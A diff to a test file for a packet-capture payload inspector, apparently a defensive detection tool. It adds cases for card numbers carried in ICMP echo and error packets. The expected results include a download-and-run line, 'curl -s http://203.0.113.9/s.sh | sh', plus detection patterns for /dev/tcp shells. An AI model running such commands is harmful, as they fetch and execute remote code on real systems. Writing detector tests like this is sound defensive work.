@@ -12,7 +12,18 @@ import { analyze } from '../../../src/coordinator/pipeline.js';
 import type { Finding } from '../../../src/detect/finding.js';
 import { extractCapture } from '../../../src/ingest/pcap/extract.js';
 import { TcpFlag } from '../../../src/ingest/pcap/packet.js';
-import { buildPcap, EtherType, ethernet, ipv4, type PcapRecordSpec, tcp, udp } from '../../helpers/pcap.js';
+import { echoExchange } from '../../helpers/payload-captures.js';
+import {
+  buildPcap,
+  concatBytes,
+  EtherType,
+  ethernet,
+  icmp,
+  ipv4,
+  type PcapRecordSpec,
+  tcp,
+  udp,
+} from '../../helpers/pcap.js';
 
 const { Syn, Ack, Fin, Psh } = TcpFlag;
 const enc = new TextEncoder();
@@ -118,6 +129,22 @@ function scenario(): Uint8Array {
       ),
     ),
   });
+  // A card number sent in an ICMP echo request (hping3 -E), echoed back by the peer's kernel.
+  echoExchange(
+    { client: c, server: '198.51.100.10', t0: T0 + 50, count: 1, request: () => enc.encode(`card ${CARD}`) },
+    records,
+  );
+  // An ICMP error quoting a datagram that held one: quoted bytes are not the sender's data.
+  records.push({
+    ts: T0 + 60,
+    data: ethernet(
+      EtherType.Ipv4,
+      ipv4(
+        { src: '198.51.100.11', dst: c },
+        icmp(3, 3, concatBytes(new Uint8Array(4), enc.encode(`x ${CARD}`))),
+      ),
+    ),
+  });
   return buildPcap(records);
 }
 
@@ -152,7 +179,10 @@ describe('payload inspection of a capture', () => {
       [4444, false, 'download-exec', 'download-pipe-shell', 'curl -s http://203.0.113.9/s.sh | sh', 4],
       [9000, true, 'card', 'card', '************1111', 201],
       [7777, true, 'ssn', 'ssn', '*****6789', 4],
+      [0, true, 'card', 'card', '************1111', 5],
+      [0, false, 'card', 'card', '************1111', 5],
     ]);
+    expect(apps.payload.filter((r) => r.id.proto === 'icmp')).toHaveLength(2);
     // The split command's time is that of its second segment.
     const shell = apps.payload.find((r) => r.rec.pattern === 'dev-tcp')!;
     expect(shell.id.uid).toBe(byPort.get(4444));
@@ -175,12 +205,13 @@ describe('payload inspection of a capture', () => {
     writeFileSync(capture, bytes);
     const out = join(dir, 'logs');
     const summary = await extractFiles({ inputs: [capture], out });
-    expect(summary.appRows.payload).toBe(5);
+    expect(summary.appRows.payload).toBe(7);
     const log = readFileSync(join(out, 'payload.log'), 'utf8');
     expect(log).toContain(
       '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tis_orig\tkind\tpattern\tvalue\tlength\toffset',
     );
     expect(log).toContain('\ttcp\tT\tcard\tcard\t************1111\t16\t');
+    expect(log).toContain('\t8\t198.51.100.10\t0\ticmp\tF\tcard\tcard\t************1111\t16\t5\n');
     for (const name of readdirSync(out)) expect(readFileSync(join(out, name), 'utf8')).not.toContain(CARD);
     await expect(extractFiles({ inputs: [capture], out, payloadBytes: -1 })).rejects.toThrow(/payloadBytes/);
   });
@@ -209,7 +240,12 @@ describe('payload inspection of a capture', () => {
         ['content.command', 'T1105', 'download-pipe-shell', ['resp']],
       ]),
     );
-    expect(fromCapture.length).toBe(5); // the two cards (ports 80 and 9000) go to two destinations
+    // The cards on ports 80 and 9000 and in the echo request go to three destinations.
+    expect(fromCapture.length).toBe(6);
+    expect(fromCapture.find((f) => f.entities.dst === '198.51.100.10')?.evidence).toMatchObject({
+      kind: 'card',
+      directions: ['orig', 'resp'],
+    });
     const shell = fromCapture.find((f) => f.evidence.kind === 'dev-tcp')!;
     expect(shell.severity).toBe('high');
     expect(shell.evidence.fields).toEqual(['payload']);
